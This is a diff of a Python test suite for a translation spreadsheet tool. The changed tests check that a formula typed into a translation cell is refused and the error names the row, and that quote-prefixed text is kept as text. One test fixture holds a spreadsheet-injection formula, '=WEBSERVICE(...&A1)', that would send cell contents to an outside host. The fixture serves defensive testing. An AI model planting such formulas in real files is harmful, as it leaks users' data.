@@ -256,11 +256,31 @@ def test_untouched_row_is_no_conflict_when_the_library_changed(
         assert uow.actions.require("dt-act-2").text.text("fr") == "Nouvelle version dans l’app."
 
 
-def test_formula_typed_by_the_translator_is_saved_as_text(sample_library: Library, tmp_path: Path) -> None:
+def test_formula_typed_by_the_translator_is_refused_and_names_the_row(
+    sample_library: Library, tmp_path: Path
+) -> None:
     path = tmp_path / "todo.xlsx"
     export_translations(sample_library, path, meeting="jha-test")
-    filled = fill(path, {"p-adviser / Fonction": '=HYPERLINK("http://x","Conseiller")'})
-    import_translations(sample_library, filled)
+    filled = fill(path, {"p-adviser / Fonction": '=WEBSERVICE("http://example.org/?"&A1)'})
+    expect_error(sample_library, filled, "holds a formula", "WEBSERVICE", "cell D")
+    with sample_library.unit_of_work() as uow:
+        assert uow.participants.require("p-adviser").function.text("fr") != "=WEBSERVICE"
+
+
+def test_text_that_looks_like_a_formula_is_saved_as_text(sample_library: Library, tmp_path: Path) -> None:
+    path = tmp_path / "todo.xlsx"
+    export_translations(sample_library, path, meeting="jha-test")
+    book = load_workbook(path)
+    sheet = book.worksheets[0]
+    header = [cell.value for cell in sheet[1]]
+    for row in range(2, sheet.max_row + 1):
+        if sheet.cell(row=row, column=header.index("Contexte") + 1).value == "p-adviser / Fonction":
+            cell = sheet.cell(row=row, column=header.index("Français") + 1)
+            cell.value = '=HYPERLINK("http://x","Conseiller")'
+            cell.data_type = "s"  # typed with Excel's quote prefix: a text, not a formula
+            cell.quotePrefix = True
+    book.save(tmp_path / "filled.xlsx")
+    import_translations(sample_library, tmp_path / "filled.xlsx")
     with sample_library.unit_of_work() as uow:
         assert (
             uow.participants.require("p-adviser").function.text("fr") == '=HYPERLINK("http://x","Conseiller")'
@@ -330,7 +350,7 @@ def test_unknown_id_stops_everything(sample_library: Library, tmp_path: Path) ->
     [
         ("A2", "abc", "expected the ID of a text"),
         ("F2", "tampered", "hidden cell was changed"),
-        ("A3", "=A2", "expected the ID of a text"),
+        ("A3", "=A2", "holds a formula (=A2)"),
     ],
 )
 def test_bad_cells_are_named(
